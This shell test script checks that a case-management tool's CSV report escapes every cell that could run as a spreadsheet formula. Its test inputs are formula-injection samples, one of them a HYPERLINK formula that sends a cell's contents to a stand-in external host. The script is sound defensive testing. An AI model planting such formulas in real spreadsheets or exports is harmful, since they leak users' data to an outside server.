#!/bin/sh
# case-report --csv: the rows of -J for a spreadsheet, in which no cell is a
# formula (THREATS 12).
. "${0%/*}/lib.sh"

export CASEBOOK=house CASE_BY=anna
case-init -q --owner anna house

# One about, tag or kind for each way to begin a formula, and what a cell
# must quote.
cat >abouts <<'X'
=1+1
+49 30 1234
-2+3
@SUM(A1)
=HYPERLINK("http://x.example/?"&A1,"click")
plain
a, b
"quoted"
'already
Größe 😀
 =behind a blank
X
n=0
while IFS= read -r about; do
	n=$((n + 1))
	jq -nc --arg about "$about" --arg ref "x:$n" --arg n "$((n % 3 + 1))" '
	    {event: "opened", ref: $ref, by: "anna", owner: "anna",
	    occurred: "2026-11-0\($n)T09:00:00Z", channel: "email",
	    about: $about, tag: ["t\($n)", $about], body: "x"}'
done <abouts >cases.jsonl
for n in 2 3 5 6 7; do
	echo '{"event":"replied","ref":"x:'$n'","by":"ben","occurred":"2026-11-05T1'$n':00:00Z","channel":"email","body":"x"}'
done >>cases.jsonl
echo '{"event":"opened","ref":"x:0","by":"anna","owner":"anna","occurred":"2026-11-05T09:00:00Z","channel":"web","body":"x"}' >>cases.jsonl
ok 'cases' case-import -q cases.jsonl

# Every row of -J as the line that it must be.
cat >row.jq <<'end'
def text: if . == null then "" else tostring |
    if test("^[=+\\-@\t\r]") then "'" + . else . end |
    if test("[\",\r\n]") then "\"" + gsub("\""; "\"\"") + "\"" else . end end;
def number: if . == null then "" else tostring end;
def cents: . * 100 | round | "\(. / 100 | floor).\("0\(. % 100)"[-2:])";
[(.report, .figure, .clock, .by, .group | text),
    (.n, .open, .median, .p90, .max | number),
    (if .figure == "redress" then .value | cents else .value | number end),
    (.of | number), (.unit, .case, .event, .action, .who, .at | text),
    (.seconds | number), (.text | text)] | join(",")
end
head=report,figure,clock,by,group,n,open,median,p90,max,value,of,unit
head=$head,case,event,action,who,at,seconds,text
# table ARG…
table() {
	case-report -J "$@" >rows
	ok "case-report $*" case-report --csv "$@"
	{ echo "$head"; jq -r -f row.jq rows; } >expected.csv
	says "$(cat expected.csv)" ''
	same '' "$(grep -E '(^|,)"?[=+@-][^,]*' "$out" | grep -vE ',-?[0-9]+(,|$)' |
	    grep -E '(^|,)"?[=+@]')" "case-report $*: no cell is a formula"
}
for report in summary times channels owners hands promises questions effort \
    outcomes causes ink backlog targets boilerplate fca first-response opened; do
	table "$report"
	case $report in
	owners|backlog|targets|boilerplate) ;;	# have groups of their own
	*) table "$report" --by about ;;
	esac
done
table --by tag
table --by channel --period 2026-11-02
table summary about:plain
table first-response --by month owner:anna
table opened is:closed

# To the letter, for those that matter.
case-report opened --by about --csv | sed -n 's/^summary,opened,,about,//p' |
    sed 's/,,,,,,[0-9]*,,cases,,,,,,,$//' | sort >cells
sort >expected <<'X'

 =behind a blank
"""quoted"""
"'=HYPERLINK(""http://x.example/?""&A1,""click"")"
"a, b"
'+49 30 1234
'-2+3
'=1+1
'@SUM(A1)
'already
Größe 😀
plain
X
same "$(cat expected)" "$(cat cells)" 'each cell'

# Counts and numbers are no text.
same 12 "$(case-report opened --csv | sed -n 's/^.*,\([0-9]*\),,cases,,,,,,,$/\1/p')" \
    'a number is one'
fails 74 'a full disk' sh -c 'case-report --csv >/dev/full'
says '' 'case-report: cannot write standard output: No space left on device'

teardown_casebook house
done_testing
